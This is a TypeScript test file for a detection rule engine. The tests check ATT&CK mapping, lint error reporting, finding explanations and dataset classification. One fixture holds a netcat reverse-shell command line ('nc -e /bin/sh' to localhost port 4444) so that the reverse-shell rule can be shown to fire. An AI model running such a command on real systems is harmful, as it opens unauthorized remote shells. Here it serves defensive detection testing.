import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { TACTICS, TECHNIQUES } from '../../src/detect/attack';
import { BUILTIN_RULES, formatIssue, kindOf, loadRules, testRules } from '../../src/detect/rules';

describe('rule files', () => {
  it('the built-in pack lints clean and every example passes', () => {
    const { rules, issues } = loadRules([BUILTIN_RULES]);
    assert.deepEqual(issues.map(formatIssue), []);
    assert.ok(rules.length >= 60, `${rules.length} rules`);
    assert.deepEqual(testRules(rules), []);
    for (const r of rules) {
      assert.ok(r.techniques.length > 0 && r.tactics.length > 0, `${r.id} is mapped to ATT&CK`);
      for (const t of r.tactics) assert.ok(TACTICS[t], `${r.id}: tactic ${t} is an ATT&CK tactic`);
      for (const t of r.techniques) assert.ok(TECHNIQUES[t] && TECHNIQUES[t.split('.')[0]], `${r.id}: technique ${t} has a name in src/detect/attack.ts`);
      assert.ok(r.examples.match.length > 0 && r.examples.no_match.length > 0, `${r.id} has both kinds of example`);
    }
  });

  it('lint names file, rule and line of each problem, and keeps the good rules', () => {
    const dir = mkdtempSync(join(tmpdir(), 'rules-'));
    const file = join(dir, 'bad.yml');
    writeFileSync(file, [
      'rules:',
      '  - id: good-one',
      '    name: ok',
      '    description: ok',
      '    kind: log',
      '    severity: low',
      '    risk_score: 21',
      '    tactics: [TA0007]',
      '    techniques: [T1046]',
      '    condition: { field: message, contains: x }',
      '    examples: { match: [{ message: x }], no_match: [{ message: y }] }',
      '  - id: bad-regex',
      '    name: bad',
      '    description: bad',
      '    kind: log',
      '    severity: low',
      '    risk_score: 21',
      '    condition:',
      "      { field: message, regex: '(a)\\1' }",
      '    examples: { match: [{ message: a }], no_match: [{ message: b }] }',
      '  - id: bad-fields',
      '    name: bad',
      '    description: bad',
      '    kind: logs',
      '    severity: urgent',
      '    risk_score: 21',
      '    techniques: [T99]',
      '    condition: { field: message, contains: x }',
      '    examples: { match: [{ message: x }], no_match: [{ message: y }] }',
      '',
    ].join('\n'));
    const { rules, issues } = loadRules([file]);
    assert.deepEqual(rules.map((r) => r.id), ['good-one']);
    const lines = issues.map(formatIssue);
    assert.ok(lines.some((l) => l.startsWith(`${file}:19 rule bad-regex: invalid RE2 pattern`)), lines.join('\n'));
    assert.ok(lines.some((l) => l.startsWith(`${file}:24 rule bad-fields: kind`)), lines.join('\n'));
    assert.ok(lines.some((l) => l.startsWith(`${file}:25 rule bad-fields: severity`)), lines.join('\n'));
    assert.ok(lines.some((l) => /:27 rule bad-fields: techniques\.0: an ATT&CK technique id/.test(l)), lines.join('\n'));
  });

  it('explains a finding by the fields whose tests held, leaving out what sat under not', () => {
    const { rules } = loadRules([BUILTIN_RULES]);
    const nc = rules.find((r) => r.id === 'dockward-reverse-shell-nc')!;
    const doc = { event: { type: ['start'] }, process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '127.0.0.1', '4444'], command_line: 'nc -e /bin/sh 127.0.0.1 4444' } };
    assert.ok(nc.matches(doc));
    const why = nc.explain!(doc);
    assert.deepEqual([why['event.type'], why['process.name'], why['process.args']], [['start'], ['nc'], doc.process.args]);
    const tmp = rules.find((r) => r.id === 'dockward-exec-from-tmp')!;
    const run = { event: { type: ['start'] }, process: { name: 'x', executable: '/tmp/x', args: ['/tmp/x'] } };
    assert.ok(tmp.matches(run));
    assert.ok(!('process.name' in tmp.explain!(run)), 'the shell exclusion is not an explanation');
  });

  it('tells document kinds apart by dataset', () => {
    assert.equal(kindOf({ data_stream: { dataset: 'dockward.container' } }), 'log');
    assert.equal(kindOf({ data_stream: { dataset: 'dockward.config' } }), 'config');
    assert.equal(kindOf({ data_stream: { dataset: 'dockward.internal' } }), undefined);
  });
});
